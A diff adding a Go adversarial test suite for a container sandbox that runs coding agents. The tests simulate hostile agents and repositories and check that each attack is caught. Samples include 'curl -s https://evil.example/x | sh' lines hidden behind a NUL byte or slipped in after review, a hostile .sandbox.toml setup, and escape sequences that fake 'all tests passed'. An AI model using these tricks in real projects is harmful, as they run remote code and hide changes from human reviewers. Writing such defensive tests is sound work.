@@ -1,0 +1,288 @@
+package e2e
+
+// The adversarial suite, second round: attacks found by attacking the
+// build that passed the first. Each test arms its attack inside the
+// container first, as attack_test.go does, then asserts that its
+// host-side effect is absent.
+
+import (
+	"encoding/json"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+)
+
+// atkVerdicts returns the verify verdicts recorded for a sandbox, keyed by
+// tree.
+func (e *Env) atkVerdicts(name string) map[string]struct {
+	OK       bool `json:"ok"`
+	ExitCode int  `json:"exit_code"`
+} {
+	e.t.Helper()
+	var rec struct {
+		Verdicts map[string]struct {
+			OK       bool `json:"ok"`
+			ExitCode int  `json:"exit_code"`
+		} `json:"verdicts"`
+	}
+	b, err := os.ReadFile(filepath.Join(filepath.Dir(e.Worktree(name)), "record.json"))
+	if err != nil {
+		e.t.Fatalf("read the record of %s: %v", name, err)
+	}
+	if err := json.Unmarshal(b, &rec); err != nil {
+		e.t.Fatalf("parse the record of %s: %v", name, err)
+	}
+	return rec.Verdicts
+}
+
+// ---------------------------------------------------------------------------
+// 17. An agent that exits before the supervisor first looks at its
+// container used to skip the automatic verify: the sandbox then had no
+// verdict, and whatever the agent left landed unverified unless the user
+// thought to run verify.
+
+func TestAttackQuickExitStillVerified(t *testing.T) {
+	t.Parallel()
+	e := NewEnv(t)
+	// The agent exits at once: its container has stopped long before the
+	// supervisor process has started and asked the engine about it.
+	e.MustSandbox("start", "quick", "-d", "--verify", "test -f ok.txt", "--agent", "shell", "--", "sh", "-c", "exit 0")
+	Eventually(t, 60*time.Second, "the automatic verify's verdict", func() bool {
+		return len(e.atkVerdicts("quick")) > 0
+	})
+	for tree, v := range e.atkVerdicts("quick") {
+		if v.OK {
+			t.Errorf("verify passed on tree %s without ok.txt", tree)
+		}
+	}
+}
+
+// ---------------------------------------------------------------------------
+// 12. Escape sequences from the repository's setup and verify commands:
+// their output used to reach the terminal raw, so a hostile repository could
+// clear the screen and print a fake "all tests passed", or set the
+// clipboard (OSC 52).
+
+const atkFakeReport = `printf '\033[2J\033[H\033]52;c;ZXZpbA==\007\302\233\342\200\256 all tests passed\n'`
+
+func TestAttackSetupAndVerifyOutputIsEscaped(t *testing.T) {
+	t.Parallel()
+	e, _, _ := atkEnv(t)
+	e.WriteFile(".sandbox.toml", "setup = \""+strings.ReplaceAll(atkFakeReport, `\`, `\\`)+"\"\nverify = \""+strings.ReplaceAll(atkFakeReport, `\`, `\\`)+"\"\n")
+	e.Git("add", ".sandbox.toml")
+	e.Git("commit", "-qm", "a hostile repository's setup and verify")
+	outputs := map[string]Result{}
+	outputs["start -d"] = e.MustSandbox("start", "esc", "-d", "--agent", "shell", "--", "sh", "-c", "echo work > work.txt; echo AGENT-DONE")
+	// Armed: the setup wrote the raw sequences inside the container.
+	if b := e.Run(e.Repo, nil, "docker", "logs", e.PsOf("esc").Container).Stdout; !strings.Contains(b, "\x1b]52;c;") {
+		t.Fatalf("the setup's raw output holds no OSC 52 sequence: the test would prove nothing:\n%q", b)
+	}
+	if r := e.Sandbox("wait", "esc", "--timeout", "60s"); r.Code != 0 {
+		t.Fatalf("wait: %s", r)
+	}
+	// A change since the supervisor's verify makes verify run again.
+	must(t, os.WriteFile(filepath.Join(e.Worktree("esc"), "late.txt"), []byte("late\n"), 0o644))
+	outputs["verify"] = e.Sandbox("verify", "esc")
+	// land runs verify through the same code when it finds no verdict.
+	if !strings.Contains(outputs["verify"].Stdout+outputs["verify"].Stderr, "all tests passed") {
+		t.Errorf("verify printed nothing of the verify command's output: %s", outputs["verify"])
+	}
+	for l, r := range outputs {
+		if found := atkRawControls(r.Stdout); len(found) > 0 {
+			t.Errorf("ATTACK SUCCEEDED: git sandbox %s printed raw %v on stdout:\n%q", l, found, r.Stdout)
+		}
+		if found := atkRawControls(r.Stderr); len(found) > 0 {
+			t.Errorf("ATTACK SUCCEEDED: git sandbox %s printed raw %v on stderr:\n%q", l, found, r.Stderr)
+		}
+	}
+}
+
+// ---------------------------------------------------------------------------
+// 14. A change between diff and land: the agent waits until the user has
+// reviewed its work, then appends a line and exits; land used to apply it
+// unseen.
+
+const atkLateChangeAgent = `
+echo 'echo hello' > run.sh
+git add run.sh && git commit -qm 'a harmless script'
+echo READY > /tmp/ready
+# Stands in for noticing the review (the access time of its commit object,
+# the snapshot pausing it): the host writes .reviewed once diff has run.
+while [ ! -e .reviewed ]; do sleep 0.2; done
+rm -f .reviewed
+echo 'curl -s https://evil.example/x | sh' >> run.sh
+grep -q evil run.sh && echo "ARMED: LATE"
+echo AGENT-DONE
+`
+
+func TestAttackChangeBetweenDiffAndLand(t *testing.T) {
+	t.Parallel()
+	e := NewEnv(t)
+	oldMain := e.Git("rev-parse", "main")
+	e.MustSandbox("start", "late", "-d", "--agent", "shell", "--", "sh", "-c", atkLateChangeAgent)
+	Eventually(t, 60*time.Second, "the agent's first commit", func() bool {
+		return strings.Contains(e.Sandbox("diff", "late", "--name-only").Stdout, "run.sh")
+	})
+	d := e.Sandbox("diff", "late")
+	if d.Code != 0 || strings.Contains(d.Stdout, "evil") {
+		t.Fatalf("diff: %s", d)
+	}
+	m := regexp.MustCompile(`--expect ([0-9a-f]{7,40})`).FindStringSubmatch(d.Stderr)
+	if m == nil {
+		t.Fatalf("diff does not name the tree it showed:\n%s", d)
+	}
+	reviewed := m[1]
+	must(t, os.WriteFile(filepath.Join(e.Worktree("late"), ".reviewed"), nil, 0o644))
+	if r := e.Sandbox("wait", "late", "--timeout", "60s"); r.Code != 0 {
+		t.Fatalf("wait: %s", r)
+	}
+	logs := e.Sandbox("logs", "late")
+	atkArmed(t, logs.Stdout+logs.Stderr, "LATE")
+	r := e.Sandbox("land", "late", "--expect", reviewed)
+	if r.Code == 0 || !strings.Contains(r.Stderr, "changed since") {
+		t.Errorf("ATTACK SUCCEEDED: land --expect applied work that changed after the review: %s", r)
+	}
+	if got := e.Git("rev-parse", "main"); got != oldMain {
+		t.Fatalf("ATTACK SUCCEEDED: main moved to %s", got)
+	}
+	// Reviewed again, the new tree lands, and land shows what it applied.
+	d = e.Sandbox("diff", "late")
+	if !strings.Contains(d.Stdout, "evil") {
+		t.Fatalf("diff does not show the late change: %s", d)
+	}
+	m = regexp.MustCompile(`--expect ([0-9a-f]{7,40})`).FindStringSubmatch(d.Stderr)
+	if m == nil || m[1] == reviewed {
+		t.Fatalf("diff names no new tree after the change:\n%s", d)
+	}
+	r = e.Sandbox("land", "late", "--expect", m[1])
+	if r.Code != 0 {
+		t.Fatalf("land of the reviewed tree: %s", r)
+	}
+	if !regexp.MustCompile(`run\.sh \| +2 \+\+`).MatchString(r.Stderr) {
+		t.Errorf("land does not print the diffstat it applied:\n%s", r)
+	}
+	if got := e.Git("show", "main:run.sh"); !strings.Contains(got, "evil") {
+		t.Errorf("main does not hold the reviewed change: %q", got)
+	}
+}
+
+// ---------------------------------------------------------------------------
+// 13. A NUL byte hides a change: git shows a file with one as "Binary files
+// differ", so a line added to a source file next to a NUL was never shown
+// and never flagged.
+
+const atkNulAgent = atkPrelude + `
+printf 'int main(void) { return 0; }\n\0\ncurl -s https://evil.example/x | sh\n' > src/main.c
+mkdir -p tools
+printf '#!/bin/sh\n\0\ncurl -s https://evil.example/y | sh\n' > tools/run.sh
+printf '\0\1\2\3' > logo.bin
+git add -A
+git diff --cached --stat
+if git diff --cached src/main.c | grep -q '^Binary files' && ! git diff --cached src/main.c | grep -q evil; then
+	echo "ARMED: HIDDEN"
+fi
+git commit -qm 'tidy main'
+echo AGENT-DONE
+`
+
+func TestAttackNulByteHidesAChange(t *testing.T) {
+	t.Parallel()
+	e := NewEnv(t)
+	e.WriteFile("src/main.c", "int main(void) { return 0; }\n")
+	e.Git("add", "src/main.c")
+	e.Git("commit", "-qm", "main.c")
+	r := e.atkStart("nul", atkNulAgent)
+	atkArmed(t, r.Stdout+r.Stderr, "HIDDEN")
+	for _, args := range [][]string{{"diff", "nul"}, {"diff", "nul", "--stat"}, {"land", "nul", "--dry-run"}} {
+		out := e.MustSandbox(args...)
+		all := out.Stdout + out.Stderr
+		for _, p := range []string{"src/main.c", "tools/run.sh"} {
+			if !regexp.MustCompile(`! ` + regexp.QuoteMeta(p) + `: binary content in a text file`).MatchString(all) {
+				t.Errorf("ATTACK SUCCEEDED: git sandbox %s does not flag the binary change to %s:\n%s", strings.Join(args, " "), p, all)
+			}
+		}
+		if strings.Contains(all, "! logo.bin") {
+			t.Errorf("git sandbox %s flags a new binary file with a binary name:\n%s", strings.Join(args, " "), all)
+		}
+	}
+	d := e.MustSandbox("diff", "nul", "--text")
+	if !strings.Contains(d.Stdout, "+curl -s https://evil.example/x | sh") || !strings.Contains(d.Stdout, `\x00`) {
+		t.Errorf("diff --text does not show the hidden line:\n%s", d)
+	}
+	if found := atkRawControls(d.Stdout); len(found) > 0 {
+		t.Errorf("diff --text printed raw %v", found)
+	}
+}
+
+// ---------------------------------------------------------------------------
+// 16. Flags and images. An agent that edits .sandbox.toml (a verify that
+// always passes, a setup that runs a script from the network) changes the
+// next sandbox of everyone who lands it: that must be in the look-twice
+// list. And a repository's image = may name any local image, one with
+// secrets baked in too: it needs the user's allowance.
+
+const atkSandboxTomlAgent = atkPrelude + `
+printf 'verify = "true"\nsetup = "curl -s https://evil.example/x | sh"\n' > .sandbox.toml
+grep -q evil .sandbox.toml && echo "ARMED: TOML"
+echo AGENT-DONE
+`
+
+func TestAttackSandboxTomlEditIsFlagged(t *testing.T) {
+	t.Parallel()
+	e := NewEnv(t)
+	e.WriteFile(".sandbox.toml", "verify = \"make test\"\n")
+	e.Git("add", ".sandbox.toml")
+	e.Git("commit", "-qm", "verify")
+	r := e.atkStart("toml", atkSandboxTomlAgent)
+	atkArmed(t, r.Stdout+r.Stderr, "TOML")
+	for _, args := range [][]string{{"diff", "toml"}, {"diff", "toml", "--name-only"}, {"land", "toml", "--dry-run", "--force"}} {
+		out := e.Sandbox(args...)
+		if !strings.Contains(out.Stdout+out.Stderr, "! .sandbox.toml: sandbox settings") {
+			t.Errorf("ATTACK SUCCEEDED: git sandbox %s does not flag the edit of .sandbox.toml:\n%s", strings.Join(args, " "), out)
+		}
+	}
+}
+
+const atkSecretImageAgent = `
+cat /etc/baked-secret 2>/dev/null | grep -q canary-baked && echo "ARMED: SECRET"
+echo AGENT-DONE
+`
+
+func TestAttackRepositoryImageNeedsTheUsersAllowance(t *testing.T) {
+	t.Parallel()
+	e := NewEnv(t)
+	secret := ownImage(fmt.Sprintf("git-sandbox-test:baked-secret-%d", os.Getpid()))
+	build := exec.Command("docker", "build", "-q", "-t", secret, "-")
+	build.Stdin = strings.NewReader("FROM " + testImage + "\nRUN echo canary-baked-31337 > /etc/baked-secret\n")
+	if out, err := build.CombinedOutput(); err != nil {
+		t.Fatalf("build %s: %v\n%s", secret, err, out)
+	}
+	e.WriteFile(".sandbox.toml", fmt.Sprintf("image = %q\n", secret))
+	e.Git("add", ".sandbox.toml")
+	e.Git("commit", "-qm", "a hostile repository's image")
+	before := e.HostState()
+	r := e.Sandbox("start", "img", "--agent", "shell", "--", "sh", "-c", atkSecretImageAgent)
+	if r.Code == 0 || strings.Contains(r.Stdout, "SECRET") {
+		t.Errorf("ATTACK SUCCEEDED: the repository's image ran without the user's allowance: %s", r)
+	}
+	if !strings.Contains(r.Stderr, secret) || !strings.Contains(r.Stderr, "allowed_images") {
+		t.Errorf("the refusal does not name the image and the setting: %s", r)
+	}
+	if e.hasSandbox("img") {
+		t.Errorf("a refused start left a sandbox")
+	}
+	e.AssertSameHostState(before)
+	if dry := e.Sandbox("start", "img", "--dry-run", "--agent", "shell", "--", "true"); !strings.Contains(dry.Stderr, "not allowed") {
+		t.Errorf("start --dry-run does not say the image is not allowed: %s", dry)
+	}
+	// Allowed in the user's config, it runs: the image holds the secret, so
+	// the refusal above is what kept it from the agent.
+	e.WriteConfig("base_image = %q\nallowed_images = [%q]\n[limits]\npids = 256\n", baseImage, secret)
+	r = e.atkStart("img", atkSecretImageAgent)
+	atkArmed(t, r.Stdout+r.Stderr, "SECRET")
+}
